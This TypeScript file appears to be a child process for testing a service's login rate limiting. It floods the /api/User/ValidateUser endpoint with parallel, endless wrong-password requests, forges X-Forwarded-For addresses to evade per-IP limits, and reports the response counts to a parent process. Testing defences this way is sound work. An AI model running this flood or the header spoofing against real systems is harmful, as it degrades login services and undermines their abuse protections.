import { Agent, request } from 'node:http';

const [url = '', atOnce, spread] = process.argv.slice(2);
const agent = new Agent({ keepAlive: true });
const answers: Record<string, number> = {};
let tried = 0;

/** A program that tries wrong passwords without pause, so many at once, until it is ended; asked, it says what came. */
async function attack(): Promise<void> {
  for (;;) {
    const status = await tryPassword((tried += 1));
    answers[status] = (answers[status] ?? 0) + 1;
  }
}

function tryPassword(count: number): Promise<string> {
  const from = spread === 'many' ? count : 1;
  const headers = {
    'Content-Type': 'application/json',
    'X-Forwarded-For': `10.${(from >> 16) & 255}.${(from >> 8) & 255}.${from & 255}`,
  };
  return new Promise((resolve) => {
    const sent = request(`${url}/api/User/ValidateUser`, { method: 'POST', agent, headers }, (response) => {
      response.resume().once('end', () => resolve(String(response.statusCode)));
    });
    sent.once('error', ({ message }) => resolve(message));
    sent.end(JSON.stringify({ loginName: `name ${count}`, password: 'not the password' }));
  });
}

process.on('message', () => process.send?.(answers));
process.once('disconnect', () => process.exit());
await Promise.all(Array.from({ length: Number(atOnce) }, attack));
